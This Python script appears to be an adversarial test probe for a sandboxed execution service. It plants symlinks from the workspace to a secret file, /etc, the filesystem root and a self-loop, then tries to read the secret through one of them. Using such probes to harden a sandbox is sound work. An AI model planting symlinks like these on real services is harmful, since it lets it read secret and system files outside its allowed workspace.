"""Plant symlinks in the workspace that point outside it, hoping the service reads them back
as collected results (`result.txt`, `out/secret.txt`), walks the host through a link to `/`,
loops forever on a link to `.`, or that they lead somewhere readable."""

import json
import os
import sys

context = json.loads(sys.argv[2])
os.symlink(context["secret_file"], "result.txt")
os.symlink(os.path.dirname(context["secret_file"]), "out")
os.symlink("/etc", "etc-link")
os.symlink("/", "root-link")
os.symlink(".", "loop")
try:
    with open("result.txt", encoding="utf-8") as handle:
        print("READ through link:", handle.read())
except OSError as exc:
    print(f"denied through link: {exc.strerror}")
